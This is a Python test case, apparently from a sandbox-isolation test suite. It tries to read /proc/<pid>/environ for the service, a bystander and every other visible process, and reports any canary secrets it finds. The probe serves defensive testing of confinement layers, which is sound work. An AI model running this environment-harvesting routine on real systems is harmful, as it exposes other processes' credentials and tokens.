# id = "files-proc-environ"
# title = "read the environment of the service and of every other process"
# guarantee = "secrets"
# layers = ["user-namespace", "pid-namespace", "landlock-fs"]
# confined = ["landlock-fs"]
# source = ["SandboxFusion base.py", "go-judge#176"]
# needs = ["service", "bystander"]
# bare = "user"
import os

from attack import CANARY, Tally, props

tally = Tally()
pids = {"1", str(os.getppid()), str(props["service_pid"]), str(props["bystander_pid"])}
try:
    pids |= {name for name in os.listdir("/proc") if name.isdigit()}
except OSError:
    pass
pids -= {str(os.getpid()), "0"}
try:
    # In a pid namespace under the host's /proc its own number is another one there.
    pids.discard(os.readlink("/proc/self"))
except OSError:
    pass


def read(pid):
    with open("/proc/%s/environ" % pid, "rb") as file:
        text = file.read()
    for found in set(CANARY.findall(text)):
        print("READ", found.decode())
    if not text:
        raise PermissionError(13, "empty")
    return text


for pid in sorted(pids, key=int)[:400]:
    tally.attempt("environ of %s" % pid, read, pid)
tally.finish()
